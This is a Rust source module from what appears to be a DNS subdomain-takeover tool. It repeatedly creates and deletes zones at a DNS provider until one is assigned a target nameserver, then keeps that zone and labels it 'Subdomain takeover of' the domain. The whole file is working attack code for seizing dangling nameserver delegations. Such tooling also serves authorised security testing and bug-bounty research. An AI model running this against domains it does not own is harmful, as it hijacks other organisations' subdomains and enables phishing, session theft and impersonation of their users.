use serde::{Serialize, Serializer};
use std::fmt;
use std::time::{Duration, Instant};
use tokio::time::sleep;
use tracing::Instrument;

use dns_types::protocol::types::DomainName;

use crate::cancel::CancellationToken;
use crate::candidates::normalise_hostname;
use crate::provider::{ProviderError, Tag, Zone, ZoneProvider};
use crate::stats::NameserverFrequencyTable;

/// Comment set on a zone once it has been matched.
pub fn takeover_comment(domain: &str) -> String {
    format!("Subdomain takeover of {domain}")
}

#[derive(Debug, Clone, Eq, PartialEq)]
pub struct AcquisitionConfig {
    /// Pause between deleting one zone and creating the next.
    pub inter_attempt_delay: Duration,
    /// Attached to every zone created.
    pub tags: Vec<Tag>,
}

impl Default for AcquisitionConfig {
    fn default() -> Self {
        Self {
            inter_attempt_delay: Duration::from_secs(1),
            tags: Vec::new(),
        }
    }
}

/// Creates and deletes zones for the parent of a domain until the
/// provider assigns one of the target nameservers.
///
/// Only one unmatched zone is ever live: each is deleted before the
/// next is created.
pub struct AcquisitionLoop<P> {
    provider: P,
    config: AcquisitionConfig,
}

impl<P: ZoneProvider> AcquisitionLoop<P> {
    pub fn new(provider: P, config: AcquisitionConfig) -> Self {
        Self { provider, config }
    }

    pub fn provider(&self) -> &P {
        &self.provider
    }

    /// Run up to `attempt_limit` create / check / delete cycles.
    ///
    /// Exhausting the attempts, or being cancelled, is not an error:
    /// the result says what happened.  A failure to create a zone is,
    /// and ends the loop immediately.
    pub async fn acquire(
        &self,
        domain: &DomainName,
        targets: &[String],
        attempt_limit: usize,
        cancel: &CancellationToken,
    ) -> Result<TakeoverResult, AcquisitionError> {
        let apex = match domain.parent() {
            Some(apex) if !apex.is_root() => apex,
            _ => return Err(AcquisitionError::NoParentZone(domain.to_dotted_string())),
        };

        let mut target_nameservers = Vec::with_capacity(targets.len());
        for target in targets {
            let target = normalise_hostname(target);
            if !target.is_empty() && !target_nameservers.contains(&target) {
                target_nameservers.push(target);
            }
        }
        if target_nameservers.is_empty() {
            return Err(AcquisitionError::NoTargets);
        }

        self.acquire_inner(domain, &apex, target_nameservers, attempt_limit, cancel)
            .instrument(tracing::error_span!("acquire", %domain, %apex))
            .await
    }

    async fn acquire_inner(
        &self,
        domain: &DomainName,
        apex: &DomainName,
        target_nameservers: Vec<String>,
        attempt_limit: usize,
        cancel: &CancellationToken,
    ) -> Result<TakeoverResult, AcquisitionError> {
        let start = Instant::now();
        let mut frequencies = NameserverFrequencyTable::new();
        let mut leaked_zones = Vec::new();
        let mut attempts = 0;
        let mut cancelled = false;
        let mut matched = None;

        while attempts < attempt_limit {
            if cancel.is_cancelled() {
                cancelled = true;
                break;
            }

            attempts += 1;

            let zone = match self
                .provider
                .create_zone(apex, &self.config.tags)
                .instrument(tracing::error_span!("create_zone", %attempts))
                .await
            {
                Ok(zone) => zone,
                Err(error) => {
                    return Err(AcquisitionError::Provider {
                        error,
                        leaked_zones,
                    })
                }
            };

            let assigned = zone
                .assigned_nameservers
                .iter()
                .map(|ns| normalise_hostname(ns))
                .collect::<Vec<_>>();
            frequencies.record(assigned.iter().map(String::as_str));

            let found = target_nameservers
                .iter()
                .filter(|target| assigned.contains(target))
                .cloned()
                .collect::<Vec<_>>();

            tracing::info!(
                attempt = %attempts,
                zone_id = %zone.id,
                nameservers = ?assigned,
                unique_nameservers = %frequencies.unique(),
                matched = !found.is_empty(),
                "attempt"
            );

            if !found.is_empty() {
                matched = Some((zone, found));
                break;
            }

            self.delete_unmatched(&zone, &mut leaked_zones).await;

            if attempts < attempt_limit {
                tokio::select! {
                    () = sleep(self.config.inter_attempt_delay) => (),
                    () = cancel.cancelled() => {
                        cancelled = true;
                        break;
                    }
                }
            }
        }

        let (success, zone_id, found_nameservers) = match matched {
            Some((zone, found)) => {
                let comment = takeover_comment(&domain.to_hostname());
                if let Err(error) = self.provider.update_zone_comment(&zone.id, &comment).await {
                    tracing::warn!(zone_id = %zone.id, %error, "could not update zone comment");
                }
                tracing::info!(zone_id = %zone.id, found = ?found, "got matching zone");
                (true, Some(zone.id), found)
            }
            None => {
                if cancelled {
                    tracing::info!(%attempts, "cancelled");
                } else {
                    tracing::info!(%attempts, "out of attempts");
                }
                (false, None, Vec::new())
            }
        };

        Ok(TakeoverResult {
            success,
            domain_name: domain.to_hostname(),
            target_nameservers,
            found_nameservers,
            attempts,
            elapsed: start.elapsed(),
            unique_nameservers_observed: frequencies.unique(),
            zone_id,
            leaked_zones,
            cancelled,
            frequencies,
        })
    }

    /// Delete a zone which did not match.  A zone that cannot be
    /// deleted is reported, not fatal.
    async fn delete_unmatched(&self, zone: &Zone, leaked_zones: &mut Vec<String>) {
        match self.provider.delete_zone(&zone.id).await {
            Ok(()) | Err(ProviderError::NotFound) => (),
            Err(error) => {
                tracing::warn!(zone_id = %zone.id, %error, "could not delete zone - leaking it");
                leaked_zones.push(zone.id.clone());
            }
        }
    }
}

/// What an acquisition run did.
#[derive(Debug, Clone, Eq, PartialEq, Serialize)]
pub struct TakeoverResult {
    pub success: bool,
    pub domain_name: String,
    pub target_nameservers: Vec<String>,
    /// The targets present in the matching zone.  Empty unless
    /// `success`.
    pub found_nameservers: Vec<String>,
    pub attempts: usize,
    #[serde(rename = "elapsed_secs", serialize_with = "serialize_secs")]
    pub elapsed: Duration,
    pub unique_nameservers_observed: usize,
    /// The matching zone, which has been left in place.
    pub zone_id: Option<String>,
    /// Zones which could not be deleted.
    pub leaked_zones: Vec<String>,
    pub cancelled: bool,
    #[serde(skip)]
    pub frequencies: NameserverFrequencyTable,
}

fn serialize_secs<S: Serializer>(duration: &Duration, serializer: S) -> Result<S::Ok, S::Error> {
    serializer.serialize_f64(duration.as_secs_f64())
}

/// Errors which stop an acquisition run.
#[derive(Debug, Clone, Eq, PartialEq)]
pub enum AcquisitionError {
    /// The domain has no parent below the root to create zones for.
    NoParentZone(String),
    NoTargets,
    /// Creating a zone failed.  `leaked_zones` are the zones from
    /// earlier attempts which could not be deleted.
    Provider {
        error: ProviderError,
        leaked_zones: Vec<String>,
    },
}

impl fmt::Display for AcquisitionError {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        match self {
            AcquisitionError::NoParentZone(domain) => {
                write!(f, "{domain} has no parent zone to create")
            }
            AcquisitionError::NoTargets => write!(f, "no target nameservers"),
            AcquisitionError::Provider {
                error,
                leaked_zones,
            } => {
                write!(f, "could not create zone: {error}")?;
                if !leaked_zones.is_empty() {
                    write!(f, " (could not delete: {})", leaked_zones.join(", "))?;
                }
                Ok(())
            }
        }
    }
}

impl std::error::Error for AcquisitionError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            AcquisitionError::Provider { error, .. } => Some(error),
            _ => None,
        }
    }
}
